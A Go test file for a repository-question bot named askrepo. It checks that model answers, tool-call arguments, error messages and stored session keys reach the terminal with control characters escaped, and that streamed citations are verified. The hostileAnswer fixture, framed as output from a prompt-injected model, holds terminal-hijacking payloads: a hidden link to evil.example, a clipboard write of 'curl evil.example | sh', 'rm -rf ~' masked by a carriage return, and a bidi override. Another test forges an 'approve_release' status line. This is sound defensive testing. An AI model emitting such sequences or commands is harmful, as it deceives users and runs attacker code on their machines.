package main

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/askrepo/askrepo/internal/llm"
	"github.com/askrepo/askrepo/internal/llm/llmtest"
	"github.com/askrepo/askrepo/internal/session"
)

// hostileAnswer is what a prompt-injected model may write to take over the
// terminal of whoever reads it: a hyperlink whose destination is hidden
// behind a citation, a clipboard write, a cleared screen, a line
// overwritten by \r, a C1 CSI, and a right-to-left override.
const hostileAnswer = "See \x1b]8;;https://evil.example/x\x1b\\README.md:1\x1b]8;;\x1b\\ now." +
	" \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a\x1b[2J\x1b[1;1H" +
	" rm -rf ~\rall good \u009b31m \u202eevil\u202c done"

// requireClean fails if s could drive a terminal: an ESC, a C1 control, a
// bare \r, a bidi override, or bytes that are not UTF-8.
func requireClean(t testing.TB, what, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Errorf("%s is not valid UTF-8: %q", what, s)
	}
	for _, r := range s {
		if (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (0x80 <= r && r <= 0x9f) || r == 0x202e || r == 0x202c {
			t.Errorf("%s holds control %U:\n%q", what, r, s)
			return
		}
	}
}

// Everything bot ask and bot chat print — the answer, the tool-call lines
// with the model's arguments, tool summaries, and errors — reaches the
// terminal with its controls escaped, visibly, streamed or not.
func TestHostileTextIsEscaped(t *testing.T) {
	hostileCall := `{"tool_calls":[{"id":"a","type":"function","function":{"name":"read_file","arguments":"{\"path\":\"x\u001b]52;c;cHduZWQ=\u0007\u001b[1A.go\"}"}}]}`
	for _, stream := range []string{"false", "true"} {
		t.Run("stream="+stream, func(t *testing.T) {
			repo := testRepo(t)
			fake := newModel(t, nil, hostileCall, jsonContent(hostileAnswer))
			env := envMap(map[string]string{"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": fake.URL, "OPENAI_STREAM": stream, "REPO_PATH": repo})
			var out, errOut bytes.Buffer
			if err := run(t.Context(), []string{"ask", "what is this?"}, env, strings.NewReader(""), &out, &errOut); err != nil {
				t.Fatalf("run: %v\nstderr: %s", err, errOut.String())
			}
			requireClean(t, "stdout", out.String())
			requireClean(t, "stderr", errOut.String())
			for _, want := range []string{
				`\x1b]8;;https://evil.example/x\x1b\README.md:1`, // the hidden destination, shown
				`\x1b]52;c;`, `rm -rf ~\rall good`, `\u009b31m`, `\u202eevil`,
				`⏺ read_file {"path":"x\x1b]52;c;cHduZWQ=\a\x1b[1A.go"}`,
			} {
				if !strings.Contains(out.String(), want) {
					t.Errorf("stdout lacks %q:\n%s", want, out.String())
				}
			}
		})
	}
}

// A tool name or arguments the model writes over several lines (JSON
// allows newlines between values) stay on their call's line: they cannot
// print lines that pass for the bot's own.
func TestToolCallCannotForgeLines(t *testing.T) {
	forged := "\n  ⎿ ✓ approve_release: approved\n"
	args, _ := json.Marshal("{\"path\":\"README.md\",\n\"x\":" + strconvQuote(forged) + "}")
	name, _ := json.Marshal("read_file" + forged)
	call := `{"tool_calls":[{"id":"a","type":"function","function":{"name":` + string(name) + `,"arguments":` + string(args) + `}}]}`
	repo := testRepo(t)
	fake := newModel(t, nil, call, jsonContent("done"))
	env := envMap(map[string]string{"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": fake.URL, "REPO_PATH": repo})
	var out, errOut bytes.Buffer
	if err := run(t.Context(), []string{"ask", "what is this?"}, env, strings.NewReader(""), &out, &errOut); err != nil {
		t.Fatalf("run: %v\nstderr: %s", err, errOut.String())
	}
	for _, line := range strings.Split(out.String(), "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "⎿ ✓ approve_release") {
			t.Errorf("the model printed a line of its own: %q\n%s", line, out.String())
		}
	}
}

func strconvQuote(s string) string { b, _ := json.Marshal(s); return string(b) }

func jsonContent(s string) string {
	b, _ := json.Marshal(map[string]string{"content": s})
	return string(b)
}

// A server's error message is printed escaped too, in chat and by main.
func TestHostileErrorIsEscaped(t *testing.T) {
	model := llmtest.New(t, llmtest.Queue(llmtest.JSON(400, "{\"error\":{\"message\":\"bad \\u001b]0;owned\\u0007\\u001b[2J request\",\"type\":\"invalid_request_error\"}}")))
	env := envMap(map[string]string{"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": model.URL, "OPENAI_STREAM": "false", "REPO_PATH": testRepo(t)})
	var out, errOut bytes.Buffer
	if err := run(t.Context(), []string{"chat"}, env, strings.NewReader("hi\n"), &out, &errOut); err != nil {
		t.Fatalf("run: %v", err)
	}
	requireClean(t, "stderr", errOut.String())
	if !strings.Contains(errOut.String(), `bad \x1b]0;owned\a\x1b[2J request`) {
		t.Errorf("stderr lacks the escaped message:\n%s", errOut.String())
	}
	var printed bytes.Buffer
	if code := exitCode(&printed, errors.New("model said \x1b[2J\x9b")); code != 1 {
		t.Errorf("exit code %d, want 1", code)
	}
	if got, want := printed.String(), `bot: model said \x1b[2J\x9b`+"\n"; got != want {
		t.Errorf("main printed %q, want %q", got, want)
	}
}

// A model error is printed once: not also as a warning of the agent loop.
func TestModelErrorPrintedOnce(t *testing.T) {
	model := llmtest.New(t, nil) // asked under the wrong path, it answers 404
	for _, tc := range []struct {
		name, stdin string
		args        []string
	}{
		{"ask", "", []string{"ask", "q"}},
		{"chat", "q\n", []string{"chat"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			env := envMap(map[string]string{"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": model.Root(), "OPENAI_STREAM": "false", "REPO_PATH": testRepo(t)})
			var out, errOut bytes.Buffer
			err := run(t.Context(), tc.args, env, strings.NewReader(tc.stdin), &out, &errOut)
			printed := errOut.String()
			if err != nil {
				exitCode(&errOut, err)
				printed = errOut.String()
			}
			const msg = "has no chat completions API under the base URL"
			if n := strings.Count(printed, msg); n != 1 {
				t.Errorf("the error is printed %d times, want once:\n%s", n, printed)
			}
			if strings.Contains(printed, "level=WARN") {
				t.Errorf("a warning repeats the error:\n%s", printed)
			}
			if !strings.Contains(printed, "usually ends in /v1") {
				t.Errorf("the error does not point at the base URL:\n%s", printed)
			}
		})
	}
}

// bot sessions prints thread keys and repository names as stored, which
// anyone who could write the store (or a Slack thread id) chose.
func TestSessionsEscapesStoredText(t *testing.T) {
	dataDir := t.TempDir()
	store, err := session.OpenSQLite(t.Context(), filepath.Join(dataDir, session.SQLiteFile), session.SQLiteOptions{})
	if err != nil {
		t.Fatal(err)
	}
	key := session.Key{Team: "T1", Channel: "C1", Thread: "1.2\x1b]0;owned\a\x9b"}
	if err := store.StartTurn(t.Context(), session.Turn{ID: "t1", Key: key, State: session.TurnRunning}, "repo\x1b[2J\u202e", llm.Message{Role: llm.RoleUser, Content: "q"}); err != nil {
		t.Fatal(err)
	}
	store.Close()
	var out, errOut bytes.Buffer
	env := envMap(map[string]string{"BOT_DATA_DIR": dataDir})
	if err := run(t.Context(), []string{"sessions"}, env, strings.NewReader(""), &out, &errOut); err != nil {
		t.Fatalf("run: %v\nstderr: %s", err, errOut.String())
	}
	requireClean(t, "stdout", out.String())
	for _, want := range []string{`1.2\x1b]0;owned\a\x9b`, `repo\x1b[2J\u202e`} {
		if !strings.Contains(out.String(), want) {
			t.Errorf("stdout lacks %q:\n%s", want, out.String())
		}
	}
}

// The answer appears as the model writes it: its first words are on the
// screen while the model is still writing the rest.
func TestAnswerStreams(t *testing.T) {
	release := make(chan struct{})
	fake := newModel(t, release, `{"content":"Backoff doubles the wait.","_hold":true}`)
	env := envMap(map[string]string{"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": fake.URL, "REPO_PATH": testRepo(t)})
	out, errOut := &lockedBuffer{}, &lockedBuffer{}
	done := make(chan error, 1)
	go func() { done <- run(t.Context(), []string{"ask", "how?"}, env, strings.NewReader(""), out, errOut) }()
	waitFor(t, out, "Backoff doubles the wait.")
	if strings.Contains(out.String(), "steps") {
		t.Fatalf("the footer came before the answer was finished:\n%s", out.String())
	}
	close(release)
	if err := <-done; err != nil {
		t.Fatalf("run: %v\nstderr: %s", err, errOut.String())
	}
	got := out.String()
	if n := strings.Count(got, "Backoff doubles the wait."); n != 1 {
		t.Errorf("the answer is printed %d times, want once:\n%s", n, got)
	}
	if !strings.Contains(got, "1 steps") {
		t.Errorf("no footer:\n%s", got)
	}
}

// A stream that breaks is retried; the terminal says the answer starts
// again instead of running the two attempts together.
func TestStreamRetryStartsOver(t *testing.T) {
	fake := newModel(t, nil, `{"content":"Half an ans","_cut":true}`, `{"content":"The whole answer."}`)
	env := envMap(map[string]string{"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": fake.URL, "REPO_PATH": testRepo(t)})
	var out, errOut bytes.Buffer
	if err := run(t.Context(), []string{"ask", "how?"}, env, strings.NewReader(""), &out, &errOut); err != nil {
		t.Fatalf("run: %v\nstderr: %s", err, errOut.String())
	}
	got := out.String()
	want := "Half an ans\n(the connection broke; the answer starts again)\n\nThe whole answer.\n"
	if !strings.Contains(got, want) {
		t.Errorf("stdout lacks %q:\n%s", want, got)
	}
}

// A streamed answer's citations are checked once it is whole and listed
// under it: a real one with its permalink at the commit, a wrong one with
// why. Text the model wrote before a tool call is shown too.
func TestStreamedCitationsListed(t *testing.T) {
	up, sha := newUpstream(t, map[string]string{"retry/backoff.go": "package retry\n\nfunc Backoff() {}\n"})
	fake := newModel(t, nil,
		`{"content":"Let me look.","tool_calls":[{"id":"a","type":"function","function":{"name":"read_file","arguments":"{\"path\":\"retry/backoff.go\"}"}}]}`,
		`{"content":"See retry/backoff.go:3, not retry/jitter.go:1 or retry/backoff.go:9."}`,
	)
	env := envMap(map[string]string{"OPENAI_API_KEY": "sk-test", "OPENAI_BASE_URL": fake.URL, "BOT_CONFIG": libConfig(t, up.URL), "BOT_DATA_DIR": t.TempDir()})
	var out, errOut bytes.Buffer
	if err := run(t.Context(), []string{"ask", "how does backoff work?"}, env, strings.NewReader(""), &out, &errOut); err != nil {
		t.Fatalf("run: %v\nstderr: %s", err, errOut.String())
	}
	want := "\nLet me look.\n\n⏺ read_file {\"path\":\"retry/backoff.go\"}\n" +
		"  ⎿ ✓ read_file: "
	if !strings.Contains(out.String(), want) {
		t.Errorf("stdout lacks %q:\n%s", want, out.String())
	}
	want = "\nSee retry/backoff.go:3, not retry/jitter.go:1 or retry/backoff.go:9.\n\n" +
		"Citations, checked at " + sha[:7] + ":\n" +
		"  ✓ retry/backoff.go:3  https://codeberg.org/acme/lib/src/commit/" + sha + "/retry/backoff.go#L3\n" +
		"  ⚠ retry/jitter.go:1: not in repo@" + sha[:7] + "\n" +
		"  ⚠ retry/backoff.go:9: line 9 is past the end: 3 lines\n\n" +
		"lib@" + sha[:7] + " · 2 steps"
	if !strings.Contains(out.String(), want) {
		t.Errorf("stdout lacks %q:\n%s", want, out.String())
	}
}

// libConfig writes a BOT_CONFIG file with one repository, lib, cloned from
// url and shown on Codeberg, and returns its path.
func libConfig(t testing.TB, url string) string {
	t.Helper()
	cfgFile := filepath.Join(t.TempDir(), "askrepo.yaml")
	yaml := fmt.Sprintf("repos:\n  - name: lib\n    url: %s\n    web_url: https://codeberg.org/acme/lib\n    web_kind: codeberg\n    channels: [\"*\"]\n", url)
	writeTestFile(t, cfgFile, yaml)
	return cfgFile
}

// waitFor waits until b holds s.
func waitFor(t testing.TB, b *lockedBuffer, s string) {
	t.Helper()
	waitUntil(t, b, fmt.Sprintf("no %q", s), func(out string) bool { return strings.Contains(out, s) })
}

// waitUntil waits until what b holds satisfies ok; after 10s it fails,
// saying what is missing and showing b.
func waitUntil(t testing.TB, b *lockedBuffer, missing string, ok func(string) bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !ok(b.String()) {
		if time.Now().After(deadline) {
			t.Fatalf("%s after 10s:\n%s", missing, b.String())
		}
		time.Sleep(5 * time.Millisecond)
	}
}
